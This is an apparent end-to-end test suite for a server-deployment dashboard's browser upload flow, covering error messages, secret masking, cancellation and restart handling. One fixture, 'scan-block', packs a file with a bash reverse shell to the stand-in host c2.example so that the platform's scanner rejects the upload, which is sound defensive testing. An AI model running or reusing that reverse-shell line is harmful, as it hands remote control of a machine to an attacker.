/** The first minutes: an archive becomes a server, or the page says why not and what helps. */
import { createHash } from 'node:crypto'
import { mkdtempSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { whyNoBrowser } from '../e2e/browser.ts'
import { buildServer, deploy, deployBash, writeTree } from '../e2e/servers.ts'
import { settle, startDashboard, type Dashboard } from './dashboard.ts'

/** A deployment ends; on a busy machine not at once. */
const ENDED_MS = 90_000

let dashboard: Dashboard

beforeAll(async () => {
  if (whyNoBrowser !== null) return
  dashboard = await startDashboard()
})
afterAll(async () => {
  await dashboard?.[Symbol.asyncDispose]()
})

async function pack(files: Readonly<Record<string, string>>): Promise<Buffer> {
  const out = join(mkdtempSync(join(dashboard.platform.folder, 'packed-')), 'server.zip')
  const packed = await dashboard.platform.cli(['pack', writeTree(dashboard.platform, files), out])
  if (packed.code !== 0) throw new Error(packed.stderr)
  return readFileSync(out)
}

const choose = (page: Page, name: string, buffer: Buffer) =>
  page.getByLabel('Choose a file').setInputFiles({ name, mimeType: 'application/zip', buffer })

/** As somebody does who drags it out of a file manager. */
async function drop(page: Page, name: string, bytes: Buffer): Promise<void> {
  const transfer = await page.evaluateHandle(
    ({ name, base64 }) => {
      const data = new DataTransfer()
      const bytes = Uint8Array.from(atob(base64), (character) => character.charCodeAt(0))
      data.items.add(new File([bytes], name))
      return data
    },
    { name, base64: bytes.toString('base64') },
  )
  for (const type of ['dragenter', 'dragover', 'drop']) {
    await page.dispatchEvent('body', type, { dataTransfer: transfer })
  }
}

const MISSING = 'import httpx\n'
const CLASH = `const { createServer } = require('node:http')
createServer().listen(8080, () => createServer().listen(8080))
`
const GREEDY = 'x = [b"x" * 1048576 for _ in range(4096)]\n'

/** Each with the code of its error and what only its sentence says. */
const BROKEN: Readonly<
  Record<
    string,
    readonly [files: Readonly<Record<string, string>>, config: object, code: string, sentence: RegExp]
  >
> = {
  'missing-dependency': [
    { 'server.py': MISSING },
    { command: ['python3', 'server.py'] },
    'start_failed',
    /httpx/,
  ],
  'bad-command': [{ a: '' }, { command: ['nosuchprogram'] }, 'runtime_not_allowed', /nosuchprogram/],
  'port-clash': [
    { 'server.cjs': CLASH },
    { command: ['node', 'server.cjs'], transport: 'http', port: 8080 },
    'start_failed',
    /the port that it wants is taken/,
  ],
  'out-of-memory': [
    { 'server.py': GREEDY },
    { command: ['python3', 'server.py'], resource_limits: { memory_mb: 64 } },
    'start_failed',
    /memory/,
  ],
  timeout: [
    { 'server.sh': 'sleep 600\n' },
    { command: ['bash', 'server.sh'], start_timeout: 2 },
    'start_failed',
    /2 s/,
  ],
  'scan-block': [
    { 'server.sh': buildServer(), 'evil.sh': 'bash -i >& /dev/tcp/c2.example/4444 0>&1\n' },
    { command: ['bash', 'server.sh'] },
    'scan_blocked',
    /scan/,
  ],
}

type Failure = {
  readonly code: string
  readonly message: string
  readonly hint: string
  readonly details: { readonly operation_id: string }
}

/** By the command line; its one line on stderr is what it says of the end. */
async function failToDeploy([way, [files, config, code, sentence]]: [string, (typeof BROKEN)[string]]) {
  const tree = writeTree(dashboard.platform, {
    ...files,
    'server_config.json': JSON.stringify({ name: way, auto_restart: false, ...config }),
  })
  const { document, stderr } = await deploy(dashboard.platform, tree)
  const told = JSON.parse(stderr.trim().split('\n').at(-1) ?? '') as { readonly error: Failure }
  // Its script and its people read the same: the sentence alone, and the sentence after the stage.
  expect(told.error.message.replace(/^\w+: /, '')).toBe(document.error?.message)
  return { way, code, sentence, error: { ...told.error, message: document.error?.message ?? '' } }
}

/** A deployment whose server never answers, up to where that shows. */
async function beginSlow(page: Page): Promise<void> {
  const archive = await pack({
    'server.sh': 'sleep 600\n',
    'server_config.json': JSON.stringify({
      name: 'slow',
      command: ['bash', 'server.sh'],
      start_timeout: 120,
    }),
  })
  await page.goto(`${dashboard.url}/deploy`)
  await settle(page)
  await choose(page, 'slow.zip', archive)
  await page.getByRole('button', { name: 'Deploy', exact: true }).click()
  const start = page.getByRole('listitem').filter({ hasText: 'Start' })
  await start.getByText('runs').waitFor({ timeout: ENDED_MS })
}

describe.skipIf(whyNoBrowser !== null)(`deploying from the browser${whyNoBrowser ?? ''}`, () => {
  it('takes a file that was dropped on another page, with variables and secrets, and shows no secret', async () => {
    const archive = await pack({
      'server.sh': buildServer(),
      'server_config.json': JSON.stringify({ command: ['bash', 'server.sh'] }),
    })
    const page = await dashboard.open('/servers')
    await settle(page)
    await drop(page, 'My Dropped.zip', archive)
    await page.getByRole('heading', { name: 'Deploy a server' }).waitFor()
    expect(await page.getByLabel('Name', { exact: true }).inputValue()).toBe('my-dropped')
    await page.getByRole('button', { name: 'Paste .env' }).click()
    const value = createHash('sha256').update('a value').digest('hex')
    await page.getByRole('dialog').getByLabel('Environment').fill(`UNITS=metric\nAPI_KEY=${value}\n`)
    await page.getByRole('button', { name: 'Take over' }).click()
    await page.getByRole('button', { name: 'Deploy', exact: true }).click()
    await page.getByText('my-dropped is online as version 1').waitFor({ timeout: ENDED_MS })
    const answers = await page.evaluate(async () => {
      const texts = await Promise.all(
        ['', '/secrets', '/versions'].map(async (part) =>
          (await fetch(`/api/v1/servers/my-dropped${part}`)).text(),
        ),
      )
      return texts.join() + document.documentElement.outerHTML + JSON.stringify(Object.entries(localStorage))
    })
    expect(answers).toContain('API_KEY')
    expect(answers).not.toContain(value)
    await page.context().close()
  })

  it('refuses what is no archive before a byte of it is sent', async () => {
    const page = await dashboard.open('/deploy')
    await settle(page)
    const sent: string[] = []
    page.on('request', (request) => request.method() === 'POST' && sent.push(request.url()))
    await choose(page, 'notes.zip', Buffer.from('only words'))
    await page.getByText('This is no archive that can be deployed.').waitFor()
    expect(await page.getByRole('button', { name: 'Deploy', exact: true }).count()).toBe(0)
    expect(sent).toEqual([])
    await page.context().close()
  })

  it('says that there is no such deployment, asks no more, and leads to one', async () => {
    const page = await dashboard.open('/deploy/op_00000000000000000000000000')
    await page.getByRole('heading', { name: 'No such deployment' }).waitFor()
    let asked = 0
    page.on('request', (request) => void (request.url().includes('/operations/') && asked++))
    await page.waitForTimeout(2500)
    expect(asked).toBe(0)
    await page.getByRole('main').getByRole('link', { name: 'Deploy a server' }).click()
    await page.waitForURL('**/deploy')
    await page.context().close()
  })

  it('U-10: each of six ways to fail has its own sentence and hint, the same in page, CLI and API', async () => {
    const failures = await Promise.all(Object.entries(BROKEN).map(failToDeploy))
    const page = await dashboard.open('/servers')
    expect(failures.map(({ way, error }) => [way, error.code, error.message])).toEqual(
      failures.map(({ way, code, sentence }) => [way, code, expect.stringMatching(sentence)]),
    )
    for (const { error } of failures) {
      const id = error.details.operation_id
      await page.goto(`${dashboard.url}/deploy/${id}`)
      const shown = await page.getByRole('alert').innerText()
      expect(shown).toContain(error.message)
      expect(shown).toContain(error.hint)
      const operation = await page.evaluate(
        async (path) => (await (await fetch(path)).json()) as { error: { message: string; hint: string } },
        `/api/v1/operations/${id}`,
      )
      expect(operation.error).toMatchObject({ message: error.message, hint: error.hint })
    }
    expect(new Set(failures.map(({ error }) => error.message)).size).toBe(failures.length)
    expect(new Set(failures.map(({ error }) => error.hint)).size).toBe(failures.length)
    await page.getByRole('link', { name: 'Try again' }).click()
    await page.waitForURL(/\/deploy$/)
    await page.context().close()
  })

  it('U-11: a stage over its limit is marked stuck with Cancel, which ends it and leaves nothing', async () => {
    const page = await dashboard.open('/login')
    // Only the browser's clock runs ahead: the stage itself goes on as long as any.
    await page.clock.install()
    await beginSlow(page)
    expect(await page.getByText(/is stuck/).count()).toBe(0)
    await page.clock.fastForward('10:00')
    const mark = page.getByRole('alert').filter({ hasText: 'Start is stuck' })
    expect(await mark.innerText()).toMatch(/should have ended after (1|4) m 15 s\. Begun by you/)
    await mark.getByRole('button', { name: 'Cancel the deployment' }).click()
    await page.getByRole('alert').getByText('The deployment was cancelled.').waitFor({ timeout: ENDED_MS })
    expect(await page.getByText('runs', { exact: true }).count()).toBe(0)
    await page.reload()
    await page.getByRole('alert').getByText('The deployment was cancelled.').waitFor()
    await page.context().close()
  })

  it('U-11: over a restart of the daemon the page says so, and the operation has ended', async () => {
    const page = await dashboard.open('/login')
    await beginSlow(page)
    await dashboard.platform.kill()
    await page.getByText('The platform restarts.').waitFor()
    await dashboard.platform.start()
    await page.getByRole('alert').getByText('The platform ended while this deployment was going on').waitFor()
    expect(await page.getByText('The platform restarts.').count()).toBe(0)
    expect(await page.getByText('runs', { exact: true }).count()).toBe(0)
    await page.getByRole('listitem').filter({ hasText: 'Verify' }).getByText('not reached').waitFor()
    await page.getByRole('link', { name: 'Try again' }).waitFor()
    await page.context().close()
  })

  it('shows what went wrong as one incident, and what is remembered of it', async () => {
    await deployBash(dashboard.platform, 'crasher', 'exit 3\n')
    const page = await dashboard.open('/insights?view=incidents')
    await settle(page)
    await page.getByRole('button', { name: /crasher/ }).click()
    await page.getByRole('dialog').getByText('Timeline').waitFor()
    await page.reload()
    await page.getByRole('dialog').getByText('Timeline').waitFor()
    await page.getByRole('button', { name: 'Ask the model' }).click()
    await page.getByText('No model spoke: no model is configured').waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('tab', { name: 'Memories' }).click()
    await page.getByLabel('Search memories').fill('my-dropped')
    await page.getByRole('button', { name: 'Search', exact: true }).click()
    await page.waitForURL(/q=my-dropped/)
    await page
      .getByRole('list', { name: 'Memories' })
      .getByText(/my-dropped/)
      .first()
      .waitFor()
    await page.getByRole('tab', { name: 'Recommendations' }).click()
    await page.getByRole('button', { name: 'Look now' }).click()
    await page.getByText(/Looked at \d+ servers/).waitFor()
    await page.context().close()
  })

  it('U-24: broke no policy and threw no error in all of this', () => {
    expect(dashboard.faults()).toEqual([])
  })
})
